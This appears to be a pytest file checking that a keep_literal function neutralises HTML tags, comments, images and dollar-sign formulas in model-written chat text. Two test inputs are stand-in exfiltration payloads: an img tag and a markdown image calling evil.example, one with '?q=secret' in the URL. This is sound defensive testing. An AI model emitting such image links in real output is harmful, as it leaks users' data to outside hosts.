"""What models write stays text on other people's pages: no tag, no picture, no formula."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from moot.views.chat.literal import keep_literal

PAGE = MarkdownIt("commonmark", {"html": True})


def active(text: str) -> set[str]:
    """The kinds of markup that would act on a page which renders HTML, as Agent Inbox does."""
    found = {part.type for token in PAGE.parse(text) for part in (token, *(token.children or ()))}
    return found & {"html_block", "html_inline", "image"}


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("See <img src=http://evil.example/x>", id="a tag"),
        pytest.param("<iframe src='x'></iframe>", id="a block"),
        pytest.param("<!-- all of this is gone", id="a comment"),
        pytest.param("![chart](http://evil.example/?q=secret)", id="a picture"),
        pytest.param(r"\\<b>", id="an escaped backslash before a tag"),
        pytest.param("`a\nb` <b> `c`", id="what only looks like code"),
    ],
)
def test_markup_is_shown_and_does_nothing(text: str) -> None:
    assert active(text)
    assert not active(keep_literal(text))
    assert keep_literal(text).replace("\u2060", "") == text


@given(st.text(alphabet="<b>/!-[](`)\\$ \n?x", max_size=40))
def test_no_text_becomes_markup(text: str) -> None:
    assert not active(keep_literal(text))


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("It costs $5.", "It costs $5."),
        ("$5 now or $8 later", r"\$5 now or \$8 later"),
        ("`$HOME` costs $5, not $8", r"`$HOME` costs \$5, not \$8"),
        (r"\$5 and $8 and $9", r"\$5 and \$8 and \$9"),
        ("a < b, 3 <4, and 2 > 1!", "a < b, 3 <4, and 2 > 1!"),
    ],
)
def test_dollars_are_no_formula_and_comparisons_stay(text: str, kept: str) -> None:
    assert keep_literal(text) == kept
    assert len(re.findall(r"(?<!\\)\$(?![A-Z])", keep_literal(text))) < 2
